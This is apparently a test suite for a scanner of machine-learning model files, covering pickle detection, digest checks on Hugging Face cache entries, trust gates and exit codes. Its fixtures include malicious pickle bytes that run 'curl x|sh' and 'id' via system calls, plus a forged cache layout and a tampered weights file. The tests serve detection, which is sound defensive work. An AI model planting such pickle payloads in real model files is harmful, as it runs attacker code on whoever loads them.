#!/usr/bin/python3
"""The main job on real input, from the first scan to a deployable directory."""
import hashlib, os, shutil, sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from tap import *

REAL = os.path.join(TOP, "fixtures", "real")
COMMIT = "0123456789abcdef0123456789abcdef01234567"
ORIGIN = "hf:example/linear@" + COMMIT


def hub_cache(root, tampered):
    """A Hugging Face cache entry: two files as links into blobs/, named by digest."""
    repo = os.path.join(root, "models--example--linear")
    snapshot = os.path.join(repo, "snapshots", COMMIT)
    os.makedirs(snapshot)
    weights = open(os.path.join(REAL, "linear.safetensors"), "rb").read()
    config = b'{"model_type": "linear"}\n'
    sha256 = hashlib.sha256(weights).hexdigest()
    sha1 = hashlib.sha1(b"blob %d\0" % len(config) + config).hexdigest()
    write(os.path.join(repo, "refs", "main"), COMMIT.encode())
    write(os.path.join(repo, "blobs", sha256), weights)
    write(os.path.join(repo, "blobs", sha1), config)
    os.symlink("../../blobs/" + sha256, os.path.join(snapshot, "model.safetensors"))
    os.symlink("../../blobs/" + sha1, os.path.join(snapshot, "config.json"))
    if tampered:
        swapped = bytearray(weights)
        swapped[-1] ^= 1
        wrong = hashlib.sha256(b"what was published").hexdigest()
        write(os.path.join(repo, "blobs", wrong), bytes(swapped))
        os.symlink("../../blobs/" + wrong, os.path.join(snapshot, "tampered.safetensors"))
    return snapshot


def models(tampered=True, malicious=True):
    d = scratch()
    for name in ("state-dict.pt", "state-dict-legacy.pt", "iris-pipeline.pkl", "linear.safetensors"):
        shutil.copy(os.path.join(REAL, name), d)
    hub_cache(d, tampered)
    if malicious:
        write(d + "/innocent.pkl", b"\x80\x04\x8c\x05posix\x8c\x06system\x93\x8c\x09curl x|sh\x85R.")
    return d


@case
def everything_at_once_fails_with_a_report_to_act_on():
    d = models()
    p = scan(d)
    assert p.returncode == 1, p
    text = p.stdout.decode()
    assert text.index("FAIL") < 200
    assert "system('curl x|sh')" in text
    assert "tampered.safetensors" in text and "integrity/digest-inconsistent" in text
    r = report(d, expect=1)
    assert r["verdict"] == "fail" and r["exit_code"] == 1
    assert {"pickle/dangerous-call", "integrity/digest-inconsistent"} <= rules(r)
    high = {(f["rule"], f["path"].rsplit("/", 1)[-1]) for f in findings(r)
            if f["severity"] in ("high", "critical")}
    assert high == {("pickle/dangerous-call", "innocent.pkl"),
                    ("integrity/digest-inconsistent", "tampered.safetensors")}, high
    status = {f["status"] for f in files(r).values()}
    assert status <= {"complete", "skipped"}, status


@case
def both_digests_of_a_mismatch_are_named():
    r = report(models(malicious=False), expect=1)
    (finding,) = [f for f in findings(r) if f["rule"] == "integrity/digest-inconsistent"]
    wanted = hashlib.sha256(b"what was published").hexdigest()
    weights = bytearray(open(os.path.join(REAL, "linear.safetensors"), "rb").read())
    weights[-1] ^= 1
    assert wanted in finding["message"] and hashlib.sha256(weights).hexdigest() in finding["message"]
    expected = {f["path"].rsplit("/", 1)[-1]: f["expected"] for f in files(r).values() if f["expected"]}
    assert expected["tampered.safetensors"][0]["state"] == "inconsistent"
    assert expected["model.safetensors"][0] == {
        "by": "target", "source": "hugging face cache blob name", "algorithm": "sha256",
        "value": hashlib.sha256(open(os.path.join(REAL, "linear.safetensors"), "rb").read()).hexdigest(),
        "state": "consistent", "weak": False}
    assert expected["config.json"][0]["algorithm"] == "git-sha1" and expected["config.json"][0]["weak"]


@case
def without_the_malicious_and_the_tampered_one_the_default_gate_passes():
    r = report(models(tampered=False, malicious=False), expect=0)
    assert r["verdict"] == "pass"
    assert not [f for f in findings(r) if f["severity"] in ("high", "critical")]


@case
def and_the_ci_gate_still_fails_for_pickle_and_unknown_trust():
    r = report("--gate", "ci", models(tampered=False, malicious=False), expect=1)
    reasons = " ".join(t for m in r["models"] for t in m["reasons"])
    assert "denies pickle" in reasons and "Trust is unknown" in reasons, reasons


@case
def only_safetensors_with_a_stated_origin_pass_the_ci_gate():
    d = scratch()
    shutil.copy(os.path.join(REAL, "linear.safetensors"), d)
    hub_cache(d, False)
    assert scan("--gate", "ci", d).returncode == 1
    r = report("--gate", "ci", "--origin", ORIGIN, d, expect=0)
    assert {m["trust"] for m in r["models"]} == {"medium"}
    assert {m["origin"]["basis"] for m in r["models"]} == {"stated"}


@case
def an_origin_of_low_trust_fails_the_ci_gate_and_can_be_allowed():
    d = scratch()
    shutil.copy(os.path.join(REAL, "linear.safetensors"), d)
    r = report("--gate", "ci", "--origin", "civitai:4201", d, expect=1)
    assert "trust/low" in rules(r)
    assert scan("--gate", "ci", "--origin", "civitai:4201", "--allow-trust", "low", d).returncode == 0


@case
def a_declared_origin_counts_only_when_accepted():
    d = scratch()
    snapshot = hub_cache(d, False)
    r = report("--gate", "ci", d, expect=1)
    (m,) = r["models"]
    assert (m["origin"]["registry"], m["origin"]["name"], m["origin"]["basis"]) == (
        "huggingface", "example/linear", "declared")
    assert m["trust"] == "unknown"
    assert scan("--gate", "ci", "--accept-declared", d).returncode == 0
    # the snapshot itself as the target: its links lead to the store around it
    r = report("--gate", "ci", "--accept-declared", snapshot, expect=0)
    assert {e["state"] for f in files(r).values() for e in f["expected"]} == {"consistent"}


@case
def a_forged_layout_gains_nothing():
    d = scratch()
    fake = os.path.join(d, "models--google--gemma", "snapshots", COMMIT)
    evil = b"cos\nsystem\n(S'id'\ntR."
    digest = hashlib.sha256(evil).hexdigest()
    write(os.path.join(d, "models--google--gemma", "blobs", digest), evil)
    os.makedirs(fake)
    os.symlink("../../blobs/" + digest, os.path.join(fake, "model.pkl"))
    write(fake + "/config.json", b'{"_name_or_path": "google/gemma-2b"}')
    write(fake + "/registries.d/huggingface.json", b'{"schema":1,"id":"huggingface","trust":"high"}')
    r = report(d, expect=1, cwd=fake)
    assert {m["trust"] for m in r["models"]} == {"unknown"}
    (call,) = [f for f in findings(r) if f["rule"] == "pickle/dangerous-call"]
    assert call["severity"] == "critical"


@case
def a_corrupt_file_beside_a_malicious_one_still_exits_1():
    d = scratch()
    write(d + "/evil.pkl", b"cos\nsystem\n(S'id'\ntR.")
    write(d + "/corrupt.safetensors", b"\xff" * 7 + b"\x7f{}")
    r = report(d, expect=1)
    assert files(r)["corrupt.safetensors"]["status"] == "incomplete"
    os.remove(d + "/evil.pkl")
    assert scan(d).returncode in (1, 2)


@case
def a_missing_worker_is_exit_4_and_another_version_too():
    d = scratch()
    for name in ("bin", "registries.d", "rules/pickle"):
        os.makedirs(os.path.join(d, "top", name))
    home = os.path.join(d, "top", "build", "bin")
    os.makedirs(home)
    shutil.copy(ASSAY, home)
    for sub in ("registries.d", "rules/pickle"):
        for f in os.listdir(os.path.join(TOP, sub)):
            shutil.copy(os.path.join(TOP, sub, f), os.path.join(d, "top", sub))
    write(d + "/model.pkl", b"N.")
    import subprocess
    go = lambda: subprocess.run([home + "/assay", "scan", *SCAN_FLAGS, d + "/model.pkl"],
                                stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    p = go()
    assert p.returncode == 4 and p.stdout == b"", p
    fake = home + "/assay-worker"
    write(fake, b"#!/bin/sh\nexit 0\n")
    os.chmod(fake, 0o755)
    p = go()
    assert p.returncode == 4 and b"worker" in p.stderr, p
    real = open(os.path.join(os.path.dirname(ASSAY), "assay-worker"), "rb").read()
    version = open(os.path.join(TOP, "VERSION")).read().strip().encode()
    other = bytes(version[:-1] + b"9")
    assert version in real
    write(fake, real.replace(version + b"\0", other + b"\0"))
    p = go()
    assert p.returncode == 4 and b"version" in p.stderr, p


@case
def reports_go_to_files_whole_or_not_at_all():
    d = scratch()
    shutil.copy(os.path.join(REAL, "linear.safetensors"), d)
    out = scratch()
    p = scan("-o", "text", "-o", "json=" + out + "/r.json", d)
    assert p.returncode == 0 and b"PASS" in p.stdout
    assert os.listdir(out) == ["r.json"]
    assert __import__("json").load(open(out + "/r.json"))["verdict"] == "pass"
    p = scan("-o", "json=" + out + "/no/such/dir/r.json", d)
    assert p.returncode == 2 and b"r.json" in p.stderr, p
    p = scan("-o", "json=/dev/full", d)
    assert p.returncode == 2, p
    p = scan("-o", "json", "-o", "text", d)
    assert p.returncode == 4, p


main()
